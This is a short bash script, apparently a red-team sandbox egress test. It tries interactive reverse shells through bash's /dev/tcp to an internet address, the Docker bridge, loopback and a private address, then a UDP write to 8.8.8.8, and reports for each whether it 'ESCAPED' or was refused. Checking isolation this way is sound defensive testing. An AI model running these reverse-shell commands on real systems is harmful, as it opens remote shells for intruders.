# Reverse shells through bash's /dev/tcp and /dev/udp, to the internet, the Docker bridge and loopback.
echo "REDTEAM bash reverse shell"
for target in 1.1.1.1/4444 172.17.0.1/4444 127.0.0.1/6379 10.0.0.1/443; do
  if bash -c "bash -i >& /dev/tcp/$target 0>&1" 2>>/work/err </dev/null; then echo "ESCAPED: /dev/tcp/$target"; else echo "refused tcp $target"; fi
done
if bash -c 'echo x > /dev/udp/8.8.8.8/53' 2>>/work/err; then echo "ESCAPED: /dev/udp"; else echo "refused udp 8.8.8.8/53"; fi
sort -u /work/err >&2
